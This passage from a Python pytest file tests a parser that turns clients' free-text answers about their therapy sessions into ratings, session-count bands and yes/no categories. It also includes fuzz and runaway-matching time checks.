def test_words_reach_the_right_point_of_the_scale(slot: str, text: str, expected: object) -> None:
    assert placed(slot, text) == expected


# 5. 0-10 answers: half the value, an exact half rounded up, never below 1.
@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("0/10", 1),
        ("1 out of 10", 1),
        ("a 2 out of 10", 1),
        ("3 out of ten", 2),
        ("4/10", 2),
        ("I'd give it a 5 out of 10", 3),
        ("6/10", 3),
        ("6.5/10", 3),
        ("7", 4),
        ("7.5 out of 10", 4),
        ("8/10", 4),
        ("nine out of ten", 5),
        ("10", 5),
        ("40%", 2),
        ("60 percent", 3),
    ],
)
def test_answers_out_of_ten_are_halved_and_rounded_up(text: str, expected: int) -> None:
    assert placed("depth", text) == expected


# 6. Homework that is not given.
@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("honestly we just chat", "none"),
        ("N/A - she's not into worksheets", "none"),
        ("none, it's all talk", "none"),
        ("she doesn't set anything for between sessions", "none"),
        ("they don't give us anything to do", "none"),
        ("she doesn't give me anything", "none"),
        ("I don't get anything to do between sessions", "none"),
        ("there's nothing set between appointments", "none"),
        ("I've never had any worksheets", "none"),
        ("never been given homework", "none"),
        ("she doesn't give me anything useful", 2),
        ("we just talk about the homework", NOT_PLACED),
    ],
)
def test_homework_that_is_not_given(text: str, expected: object) -> None:
    assert placed("homework_fit", text) == expected


# 7. Raised it: weaker signs of (no) change count once the client says they raised it; the latest wins.
@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("I told him, but it's the same old routine", "yes_no_change"),
        ("I said something and he keeps assigning the same worksheets", "yes_no_change"),
        ("I asked her to change it, but she still hasn't", "yes_no_change"),
        ("I did, she nodded but nothing has changed", "yes_no_change"),
        ("she was receptive but nothing's changed", "yes_no_change"),
        ("I mentioned it and she was lovely about it, but it's the same stuff", "yes_no_change"),
        ("I brought it up and she was nice but it went back to how it was", "yes_no_change"),
        ("I asked for more homework and now I get a sheet every week", "yes_helped"),
        ("told her, and since then sessions feel more personal", "yes_helped"),
        ("I raised it so now we start each session with a check in", "yes_helped"),
        ("I told her and she felt the same way and we changed things", "yes_helped"),
        ("I said I would but haven't yet", "not_yet"),
        ("it's the same thing every week but I haven't said anything", "not_yet"),
        ("not yet, we keep doing the same stuff", "not_yet"),
        ("I mentioned it once, didn't seem to land", "yes_no_change"),
        ("I did, she said she'd think about it, nothing yet", "yes_no_change"),
        ("we talked about it and she's trying", "yes_helped"),
        ("yeah, she made some changes", "yes_helped"),
        ("she took it well and we've been trying new things", "yes_helped"),
        ("I'm thinking about it", "not_yet"),
    ],
)
def test_raised_needs_after_saying_it_was_raised(text: str, expected: str) -> None:
    assert placed("raised_needs", text) == expected


# 8. Casual "nothing" is nothing; real content is kept, even when it starts with "no".
@pytest.mark.parametrize("slot", ["missing", "tell_more"])
@pytest.mark.parametrize(
    "text",
    [
        "nah, all good",
        "nope I'm fine thanks",
        "I'm all set",
        "can't think of anything else",
        "nothing more to add, thanks",
        "nothing here, thanks \U0001f44d",
        "nope that's everything",
        "honestly nothing",
    ],
)
def test_casual_nothing_is_placed_as_none(slot: str, text: str) -> None:
    assert parse_answer(slot, text) == Parsed(None)


@pytest.mark.parametrize(
    "text",
    [
        "no check-ins on how I'm doing",
        "no follow through on homework",
        "nothing about my family ever comes up",
        "no more like structure",
        "just more time",
    ],
)
def test_content_that_starts_like_nothing_is_kept(text: str) -> None:
    assert placed("missing", text) == text


# 9. Who chose the goals, and whether feedback is taken on board.
@pytest.mark.parametrize(
    ("slot", "text", "expected"),
    [
        ("goals_shared", "she picked them herself", 2),
        ("goals_shared", "he chose what we work on", 2),
        ("goals_shared", "my therapist set the goals", 2),
        ("goals_shared", "I didn't have much input", 2),
        ("goals_shared", "I had no say", 2),
        ("goals_shared", "no one has ever asked what I'd like", 1),
        ("goals_shared", "I had a say in them", 4),
        ("goals_shared", "we worked them out together", 5),
        ("goals_shared", "yes, we decided together", 5),
        ("goals_shared", "she came up with them", 2),
        ("goals_shared", "I just went along with what she said", 2),
        ("goals_shared", "I had input but she had the final say", 3),
        ("goals_shared", "she didn't ask what I wanted", 2),
        ("approach_fit", "she usually takes my suggestions on board", 4),
        ("approach_fit", "she takes my ideas on board most of the time", 4),
        ("approach_fit", "she always takes my concerns on board", 5),
    ],
)
def test_who_chose_the_goals_and_feedback_on_board(slot: str, text: str, expected: int) -> None:
    assert placed(slot, text) == expected


# 10. Wrong side of the scale: "no X that fits ... at all", "no, never - <bad thing>", missing goals, a
#     summary that outweighs a concession, and a 1 or 5 that outweighs an unqualified word on its side.
WRONG_SIDE = [
    ("advice_fit", "there is no advice that actually applies to me at all", 1),
    ("advice_fit", "no tips which fit my life whatsoever", 1),
    ("homework_fit", "no exercise that suits my situation at all", 1),
    ("advice_fit", "no advice that fits my life", 2),
    ("felt_heard", "nope, never - he just cuts me off", 1),
    ("felt_heard", "no \u2013 never; she interrupts constantly", 1),
    ("felt_heard", "never\u2014she ignores what I say", 1),
    ("approach_fit", "she never adjusts anything, very stubborn", 1),
    ("approach_fit", "never changes a thing, set in her ways", 1),
    ("depth", "never goes deep, all small talk", 1),
    ("felt_heard", "always rushed, cold", 1),
    ("goals_shared", "we don't have any goals", 1),
    ("goals_shared", "goals? they never came up", 1),
    ("goals_shared", "we haven't discussed goals once", 1),
    ("goals_shared", "honestly goals don't really exist in there", 1),
    ("goals_shared", "she wrote the plan herself and I was never asked", 1),
    ("goals_shared", "he chose them on his own without asking me", 1),
    ("goals_shared", "zero input from me whatsoever", 1),
    ("goals_shared", "I had no input at all", 1),
    ("goals_shared", "she checks with me but mostly runs the show", 2),
    ("goals_shared", "she asks what I think but usually decides herself", 2),
    ("goals_shared", "I wasn't asked much", 2),
    ("goals_shared", "a little of both", 3),
    ("goals_shared", "a mix of both really", 3),
    ("goals_shared", "absolutely, I chose them and she helped shape them", 5),
    ("felt_heard", "always!!! she really hears me", 5),
    ("felt_heard", "totally, she listens and gets me", 5),
    ("felt_heard", "good, always there for me", 5),
    ("approach_fit", "completely, she adapts whenever I ask", 5),
    ("felt_heard", "she's distracted but mostly listens", 4),
    ("felt_heard", "she listens but usually she's on her phone", 2),
    # kept where they were: weak words do not reach the ends, a plain summary does not outweigh a cue
    ("felt_heard", "she's really kind and patient", 4),
    ("felt_heard", "she listens but often interrupts", 3),
    ("felt_heard", "mostly, but she's distracted", 3),
    ("goals_shared", "I had some input but she decided in the end", 3),
    ("goals_shared", "she asked me herself what I wanted", 4),
    ("goals_shared", "we have goals", 4),
    ("goals_shared", "I set the goals myself", 4),
    ("goals_shared", "it never came up", NOT_PLACED),
    ("goals_shared", "I lead the sessions", NOT_PLACED),
]


@pytest.mark.parametrize(("slot", "text", "expected"), WRONG_SIDE)
def test_answers_land_on_the_side_they_mean(slot: str, text: str, expected: object) -> None:
    assert placed(slot, text) == expected


# 11. Ratings put in other words, 0-10 ratings in brackets, and rare-as-can-be frequencies.
@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("I'd put her at a four", 4),
        ("put it down as a 3", 3),
        ("put us down for 2", 2),
        ("a strong seven (out of ten)", 4),
        ("nine (out of 10) honestly", 5),
        ("a six out of ten", 3),
        ("once in a blue moon she actually listens", 2),
        ("in a blue moon", 2),
        ("moments like that are few and far between", 2),
        ("she barely takes in what I say", 2),
        ("he hardly registers anything I tell him", 2),
        ("she never notices when I'm upset", 1),
        ("she put me at ease", NOT_PLACED),
        ("she put 2 and 2 together", NOT_PLACED),
        ("I barely notice the time passing", NOT_PLACED),
    ],
)
def test_ratings_and_frequencies_in_other_words(text: str, expected: object) -> None:
    assert placed("felt_heard", text) == expected


# 12. Session counts: starting this week, the first assessment, fortnights, "session 11", totals "by now".
@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("I only started last week", "early"),
        ("began this week actually", "early"),
        ("just done the initial consultation", "early"),
        ("only had the assessment so far", "early"),
        ("about a fortnight", "early"),
        ("two fortnights", "established"),
        ("we're up to session 7", "established"),
        ("this is appointment number 10", "established"),
        ("session twenty next week", "long_term"),
        ("week 3", "early"),
        ("30+ by now", "long_term"),
        ("15 or so at the moment", "long_term"),
        ("most of last year", "long_term"),
        ("I saw her this week", NOT_PLACED),
        ("a year and a half", "long_term"),
        ("maybe 6 sessions a few years ago", "established"),  # the count wins over the time
        ("about 18 months on and off", "long_term"),
        # round 13: a story that ends in its sum is read by the sum, not by a week it mentions
        ("I began in september, skipped a week for a holiday, so about eight", "established"),
        ("we had a month off in summer and then a week off, so 20 or so", "long_term"),
        ("6 months weekly, way more than 3", "long_term"),
        # a live conversation's: a rate said after the span, and a lower bound below what the months give
        ("I am seeing her since 6 week, every week one time", "established"),
        ("about 6 months, weekly, so way more than 3 sessions", "long_term"),
        ("more than 10 sessions over 2 months", "established"),
    ],
)
def test_sessions_in_other_words(text: str, expected: str) -> None:
    assert placed("sessions_so_far", text) == expected


# 13. Spans of the calendar are read against today's date; only a span that is surely long is placed.
@pytest.mark.parametrize(
    ("today", "text", "expected"),
    [
        (date(2026, 11, 27), "since last summer", "long_term"),
        (date(2026, 11, 27), "since the spring", "long_term"),
        (date(2026, 11, 27), "since last winter", "long_term"),
        (date(2026, 11, 27), "all of this year", "long_term"),
        (date(2026, 11, 27), "pretty much most of this year", "long_term"),
        (date(2026, 11, 27), "since last year", "long_term"),
        (date(2026, 11, 27), "since the autumn", NOT_PLACED),  # it began under three months ago
        (date(2026, 11, 27), "6 sessions since last summer", "established"),  # a count beats a span
        (date(2026, 2, 10), "since last summer", "long_term"),
        (date(2026, 2, 10), "since last autumn", NOT_PLACED),
        (date(2026, 2, 10), "most of this year", NOT_PLACED),
        (date(2026, 2, 10), "since last year", NOT_PLACED),
        (date(2026, 7, 1), "since the summer", NOT_PLACED),
        (date(2026, 7, 1), "since last spring", NOT_PLACED),  # the spring just gone: only a month or so
        (date(2026, 7, 1), "since last autumn", "long_term"),
        (date(2026, 7, 1), "monthly since last spring", NOT_PLACED),
        # a named month: weekly unless said otherwise, about four sessions a month (issue 8, item 4)
        (date(2026, 12, 3), "since March, weekly", "long_term"),
        (date(2026, 12, 3), "since october", "established"),
        (date(2026, 12, 3), "since late September, weekly", "established"),
        (date(2026, 12, 3), "since mid-november", "early"),
        (date(2026, 12, 3), "since december", "early"),
        (date(2026, 1, 20), "since december, every other week", "early"),
        (date(2026, 12, 3), "since march 2024", "long_term"),
        (date(2026, 12, 3), "8 sessions since march", "established"),  # a count beats a span
        # fillers and other openers before the date (tester, round 3)
        (date(2026, 12, 3), "since roughly october i think", "established"),
        (date(2026, 12, 3), "i started seeing him back in about april", "long_term"),
        (date(2026, 12, 3), "began in like mid november", "early"),
        (date(2026, 12, 3), "since um the summer", "long_term"),
        (date(2026, 12, 3), "from maybe 2022", "long_term"),
        (date(2026, 3, 10), "we started around january", "established"),
        (date(2026, 12, 3), "we started in the spring", "long_term"),
        (date(2026, 7, 1), "we started in the spring", NOT_PLACED),  # this spring: a month or four
    ],
)
def test_calendar_spans_are_read_against_today(
    monkeypatch: pytest.MonkeyPatch, today: date, text: str, expected: str
) -> None:
    monkeypatch.setattr(answer_parsing, "_today", lambda: today)
    assert placed("sessions_so_far", text) == expected


# 14. No homework, said another way; a task that is there but does not fit is still a rating.
@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("zero worksheets so far", "none"),
        ("I've never been given a single exercise", "none"),
        ("not one single assignment", "none"),
        ("not one task so far", "none"),
        ("he's not a big fan of homework", "none"),
        ("she isn't into worksheets", "none"),
        ("she's not into giving homework", "none"),
        ("they don't really believe in that kind of thing", "none"),
        ("no task feels relevant", 2),
        ("zero tasks that fit me", 1),
        ("I never do a single task she gives", NOT_PLACED),
    ],
)
def test_no_homework_in_other_words(text: str, expected: object) -> None:
    assert placed("homework_fit", text) == expected


# 15. Raised it, said other ways, and what came of it.
@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("I brought it up and we've started doing shorter check-ins", "yes_helped"),
        ("asked her to slow down and she has", "yes_helped"),
        ("I asked and she did", "yes_helped"),
        ("mentioned it last month, real improvement since", "yes_helped"),
        ("told him ages ago and there's been a big improvement", "yes_helped"),
        ("I brought it up and she has been great", "yes_helped"),
        ("I raised it, still waiting for something to change", "yes_no_change"),
        ("I've asked, we still go over the same worksheet", "yes_no_change"),
        ("asked her to stop and she still does it", "yes_no_change"),
        ("she agreed, then went on like before", "yes_no_change"),
        ("I've mentioned it twice but he keeps forgetting", "yes_no_change"),
        ("asked for more structure, she forgot", "yes_no_change"),
        ("told her ages ago, she carried on regardless", "yes_no_change"),
        ("I asked and she didn't", "yes_no_change"),
        ("I told her and haven't seen any improvement", "yes_no_change"),
        ("I haven't asked for it, still waiting for the right moment", "not_yet"),
        ("no, never raised it, she still does the same thing", "not_yet"),
        ("not yet, I keep forgetting", "not_yet"),
        ("mentioned it", NOT_PLACED),
        ("she agreed to try", NOT_PLACED),
    ],
)
def test_raised_needs_in_other_words(text: str, expected: str) -> None:
    assert placed("raised_needs", text) == expected


# 16. Advice the client can act on.
@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("mostly it's things I can realistically try", 4),
        ("usually stuff I can use", 4),
        ("it's ideas I can actually do", 4),
        ("mostly stuff I can't actually do", 2),
        ("nothing I can actually do", 2),
    ],
)
def test_advice_the_client_can_act_on(text: str, expected: int) -> None:
    assert placed("advice_fit", text) == expected


@pytest.mark.parametrize("slot", ["missing", "raised_needs", *SCALE_SLOTS])
def test_long_runs_of_nothing_words_stay_fast(slot: str) -> None:
    parse_answer(slot, "ok")  # the readers load on first use
    start = time.perf_counter()
    for text in ["no nothing " * 40 + "x", "not really no " * 30 + "x", "never get past " * 30]:
        parse_answer(slot, text)
    assert time.perf_counter() - start < 0.5  # runaway matching, not speed: normally a few milliseconds


# --------------------------------------------------------------------------------------------------------
# The contract itself
# --------------------------------------------------------------------------------------------------------


def test_scale_slots_are_the_six_scale_questions() -> None:
    assert SCALE_SLOTS == RATED_SLOTS


def test_parsed_is_frozen() -> None:
    with pytest.raises(dataclasses.FrozenInstanceError):
        Parsed(3).value = 4  # type: ignore[misc]


def test_an_unknown_slot_is_a_programming_error() -> None:
    with pytest.raises(ValueError, match="unknown slot 'favourite_colour'"):
        parse_answer("favourite_colour", "blue")


def test_text_that_is_not_a_string_is_not_placed() -> None:
    assert parse_answer("felt_heard", None) is None  # type: ignore[arg-type]
    assert is_skip(None) is False  # type: ignore[arg-type]


ALL_SLOTS = [*SCALE_SLOTS, "sessions_so_far", "raised_needs", "hopes", "missing", "tell_more"]
ALLOWED_VALUES: dict[str, object] = {
    **{slot: {1, 2, 3, 4, 5} for slot in SCALE_SLOTS},
    "homework_fit": {1, 2, 3, 4, 5, "none"},
    "sessions_so_far": {"early", "established", "long_term"},
    "raised_needs": {"yes_helped", "yes_no_change", "not_yet"},
}


def _random_answers(count: int) -> list[str]:
    rng = random.Random(20240611)
    alphabet = "abcdefghijklmnopqrstuvwxyz 0123456789.,!?'/-%<>;\u00e9\u00df\u4e2d\U0001f44d\u2b50\n\t"
    words = [
        "not",
        "really",
        "yes",
        "no",
        "she",
        "always",
        "never",
        "4",
        "out",
        "of",
        "10",
        "sessions",
        "months",
        "a",
        "bit",
        "homework",
        "nothing",
        "changed",
        "helped",
        "surface",
        "generic",
        "at",
        "all",
        "\U0001f610",
    ]
    answers = ["".join(rng.choice(alphabet) for _ in range(rng.randint(0, 80))) for _ in range(count)]
    answers += [" ".join(rng.choice(words) for _ in range(rng.randint(1, 12))) for _ in range(count)]
    return answers


@pytest.mark.parametrize("slot", ALL_SLOTS)
def test_any_text_gives_a_value_from_the_slot_contract_or_none(slot: str) -> None:
    for text in _random_answers(300):
        parsed = parse_answer(slot, text)
        if parsed is None:
            continue
        if slot in ALLOWED_VALUES:
            assert parsed.value in ALLOWED_VALUES[slot], (text, parsed)  # type: ignore[operator]
        elif slot == "hopes":
            assert isinstance(parsed.value, str) and 0 < len(parsed.value) <= 1000
        else:
            assert parsed.value is None or (isinstance(parsed.value, str) and len(parsed.value) <= 1000)


def test_no_answer_sends_the_parser_into_runaway_matching() -> None:
    answers = [text for _, text, _ in MUST_PASS] + [text for text, _ in GENERAL_WORD_ANSWERS] + ["x" * 2000]
    slots = ["felt_heard", "homework_fit", "sessions_so_far", "raised_needs", "hopes"]
    for slot in slots:
        parse_answer(slot, "ok")  # the readers load on first use
    start = time.perf_counter()
    for slot in slots:
        for text in answers:
            parse_answer(slot, text)
    per_answer = (time.perf_counter() - start) / (len(slots) * len(answers))
    # Not a speed target (the benchmark measures speed): about 1 ms an answer normally; only a pattern
    # that backtracks without end on some answer breaks this bound, also on a busy machine.
    assert per_answer < 0.02


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("1 - nothing about it fits", 1),
        ("5, she's brilliant but sometimes late", 5),
        ("a 2 from me", 2),
        ("i'd say 3, depends on the week", 3),
        ("4 because mostly it works", 4),
        ("2 out of 10", 1),
        ("4/10", 2),
    ],
)
def test_a_rating_stated_up_front_is_the_answer(text: str, expected: int) -> None:
    parsed = parse_answer("advice_fit", text)
    assert parsed is not None and parsed.value == expected


def test_no_homework_wins_over_a_rating_given_for_another_question() -> None:
    parsed = parse_answer("homework_fit", "3, and she doesn't give homework")
    assert parsed is not None and parsed.value == "none"


@pytest.mark.parametrize(
    ("slot", "text"),
    [
        ("missing", "hang on, change the second answer, it was 2 not 4"),
        ("hopes", "oh before that, the advice one should have been a 4"),
        ("hopes", "can I fix my last rating? it's a 3"),
    ],
)
def test_a_correction_of_an_earlier_rating_at_a_free_text_question_is_not_its_answer(
    slot: str, text: str
) -> None:
    """Found by a blind guard after its first run: such corrections were stored as the client's hopes."""
    assert read_answer(slot, text).kind is ReadingKind.NOT_AN_ANSWER


@pytest.mark.parametrize(
    ("slot", "text"),
    [("hopes", "my main one should be feeling less alone"), ("missing", "the homework should fit my life")],
)
def test_a_hope_that_sounds_like_a_correction_is_still_a_hope(slot: str, text: str) -> None:
    assert read_answer(slot, text).kind is ReadingKind.VALUE


@pytest.mark.parametrize(
    "text",
    ["and is this private, or can people see it?", "so is it saved somewhere?", "but what is this for?"],
)
def test_a_question_to_us_after_a_lead_word_is_no_free_text_answer(text: str) -> None:
    """Found by a blind guard: 'and is this …?' at the last, free-text question was stored as its answer."""
    assert read_answer("missing", text).kind is ReadingKind.NOT_AN_ANSWER


def test_a_free_text_answer_phrased_as_a_question_is_still_an_answer() -> None:
    assert read_answer("hopes", "would more structure help?").kind is ReadingKind.VALUE


@pytest.mark.parametrize(
    "text",
    [
        "what's the difference between hopes and goals? isn't that the same thing?",
        "what do you mean? like calmer?",
    ],
)
def test_a_question_asked_straight_after_a_question_is_no_free_text_answer(text: str) -> None:
    """Found by a blind set's first run (round 10): the second question was stored as the client's hope."""
    assert read_answer("hopes", text).kind is ReadingKind.NOT_AN_ANSWER
    assert read_answer("hopes", "what do you mean? I want to feel calmer.").value == "I want to feel calmer."


@pytest.mark.parametrize(
    ("slot", "text"),
    [
        ("homework_fit", "oh no, the doorbell, can we pause here?"),
        ("felt_heard", "ugh, phone's dying, i need to stop now"),
        ("depth", "sorry, kids woke up. can we continue later"),
    ],
)
def test_a_request_said_as_a_clause_of_its_own_is_no_answer(slot: str, text: str) -> None:
    """Found by a blind guard: 'oh no, …, can we stop for now?' stored 'no' (1) as the answer."""
    assert read_answer(slot, text).kind is ReadingKind.NOT_AN_ANSWER


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("once I told him the diary wasn't helping he adapted it", "yes_helped"),
        ("when I said group work isn't my thing, they switched to one-to-one", "yes_helped"),
        ("after I mentioned the exercises weren't working she tweaked them", "yes_helped"),
        ("when I asked, she didn't change anything", "yes_no_change"),
        ("I told her it wasn't working and nothing changed", "yes_no_change"),
    ],
)
def test_a_negation_in_the_clause_about_what_was_said_does_not_undo_the_change(
    text: str, expected: str
) -> None:
    """Tester, round 4: "when I said X wasn't for me she changed tack" was read as "nothing changed"."""
    assert placed("raised_needs", text) == expected


# Round 7 (tester after round 6): unsure what the question means is a don't-know, never a rating
@pytest.mark.parametrize(
    ("slot", "text"),
    [
        ("depth", "tricky one. no clue what a deep session is meant to feel like"),
        ("depth", "I wouldn't know what counts as going deep, honestly"),
        ("advice_fit", "not sure what good advice is supposed to look like really"),
        ("felt_heard", "I've nothing to compare it with tbh"),
        ("approach_fit", "how would I even know if the approach adapts"),
        ("goals_shared", "I don't really get what shared goals would look like"),
    ],
)
def test_doubt_about_the_question_itself_is_a_dont_know(slot: str, text: str) -> None:
    """Tester, round 6: "hard to say really. I don't know what deep is supposed to feel like" was a 4."""
    assert read_answer(slot, text).kind is ReadingKind.DONT_KNOW


@pytest.mark.parametrize(
    ("slot", "text", "value"),
    [
        ("depth", "not sure what deep is meant to feel like, maybe a 2", 2),
        ("advice_fit", "I don't know what good advice looks like, but hers never fits my life", 1),
    ],
)
def test_doubt_about_the_question_with_a_rating_still_gives_the_rating(
    slot: str, text: str, value: int
) -> None:
    reading = read_answer(slot, text)
    assert reading.kind is ReadingKind.VALUE and reading.value == value


# Round 7: figures of speech that rate low, whatever their own words say
@pytest.mark.parametrize(
    ("slot", "text", "value"),
    [
        ("depth", "honestly about as deep as a paddling pool", 1),
        ("depth", "deep as a saucer, we never get anywhere", 1),
        ("advice_fit", "her tips are about as helpful as a wet paper bag", 1),
        ("advice_fit", "as much use as a chocolate fireguard tbh", 1),
        ("advice_fit", "mostly greeting card advice, 'be kind to yourself'", 1),
        ("advice_fit", "I could have read that on a poster", 1),
        ("felt_heard", "some weeks it's like talking to a wall", 1),
        ("felt_heard", "goes in one ear and out the other with him", 1),
        ("depth", "we only ever skim the surface", 2),
        ("depth", "we mostly paddle in the shallows", 2),
        ("approach_fit", "it's about as flexible as a brick", 1),
    ],
)
def test_a_figure_of_speech_rates_low_whatever_its_words_say(slot: str, text: str, value: int) -> None:
    """Tester, round 6: "deep as a puddle" was read as 4."""
    reading = read_answer(slot, text)
    assert reading.kind is ReadingKind.VALUE and reading.value == value


@pytest.mark.parametrize(
    ("slot", "text"),
    [
        ("felt_heard", "it's never like talking to a brick wall, she really listens"),
        ("depth", "it's deep as the ocean with her"),
        ("felt_heard", "she's solid as a rock, always listens"),
    ],
)
def test_a_negated_or_sincere_figure_is_read_as_said(slot: str, text: str) -> None:
    reading = read_answer(slot, text)
    assert reading.kind is ReadingKind.VALUE and reading.value >= 4


@pytest.mark.parametrize(
    ("slot", "text", "expected"),
    [
        ("sessions_so_far", "Only 2 sittings till now", "early"),
        ("sessions_so_far", "about 8 sittings with her", "established"),
        ("sessions_so_far", "we had maybe 20 sittings", "long_term"),
        ("raised_needs", "I say it already, yes and it help", "yes_helped"),
        ("raised_needs", "yes I tell him, that help me", "yes_helped"),
        ("raised_needs", "yes, once. I asked her to stop cutting me off. she cut me off again",
         "yes_no_change"),
        ("raised_needs", "I told him to stop checking his phone, he did it again the next week.",
         "yes_no_change"),
        ("raised_needs", "yes twice, I asked her not to interrupt. she interrupted me again to say sorry",
         "yes_no_change"),
    ],
)
def test_plainer_or_non_native_wordings_of_sessions_and_raising_needs(
    slot: str, text: str, expected: str
) -> None:
    assert parse_answer(slot, text) == Parsed(expected)


@pytest.mark.parametrize("text", ["too soon to know if it helped", "not sure whether it helped yet"])
def test_whether_raising_it_helped_asked_not_told_is_no_reading(text: str) -> None:
    # a tester's "too soon to know if it helped" was stored as "yes, and it helped"
    assert parse_answer("raised_needs", text) is None


@pytest.mark.parametrize(
    ("slot", "text", "expected"),
    [
        ("felt_heard", "right I'm here again - maybe a 2", 2),
        ("depth", "hmm — 4 probably", 4),
        ("goals_shared", "sorry about that - 5", 5),
        ("advice_fit", "2 - 3", 3),  # a range, not a clause break
    ],
)
def test_a_rating_after_a_spaced_dash_is_read(slot: str, text: str, expected: int) -> None:
    """Tester, round 13: "ok back - about a 3" was no rating to the rule reader."""
    assert read_answer(slot, text).value == expected


@pytest.mark.parametrize("text", ["it's not so deep really", "mostly not so deep"])
def test_not_so_deep_is_low(text: str) -> None:
    reading = read_answer("depth", text)
    assert reading.kind is ReadingKind.VALUE and reading.value <= 2, reading


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("roughly seventeen or eighteen by now?", "long_term"),
        ("thirty-something", "long_term"),
        ("something like 7", "established"),
        ("nine or ten?", "established"),
    ],
)
def test_loose_counts_with_a_question_mark_or_in_words_are_read(text: str, expected: str) -> None:
    assert read_answer("sessions_so_far", text).value == expected


def test_two_readings_weighed_as_a_question_are_still_a_question() -> None:
    reading = read_answer("sessions_so_far", "with her or counting the old counsellor?")
    assert reading.kind is ReadingKind.NOT_AN_ANSWER


@pytest.mark.parametrize("text", ["nah havnt mentioned it", "hvnt said a word to him"])
def test_havnt_is_not_yet(text: str) -> None:
    assert read_answer("raised_needs", text).value == "not_yet"


@pytest.mark.parametrize(
    "text",
    ["asked him to slow down, he did for about a week", "I asked for less homework, it lasted a fortnight"],
)
def test_a_change_that_lasted_only_a_while_is_no_change(text: str) -> None:
    assert read_answer("raised_needs", text).value == "yes_no_change"


@pytest.mark.parametrize(
    "text", ["I did bring it up, though I can't say anything has improved", "raised it, cannot see it helped"]
)
def test_cannot_say_it_changed_is_no_change(text: str) -> None:
    assert read_answer("raised_needs", text).value == "yes_no_change"


@pytest.mark.parametrize(("text", "expected"), [("Hard to say. Perhaps two.", 2), ("possibly a 5", 5)])
def test_perhaps_before_a_number_is_the_number(text: str, expected: int) -> None:
    reading = read_answer("felt_heard", text)
    assert reading.value == expected and reading.confidence >= 0.9, reading
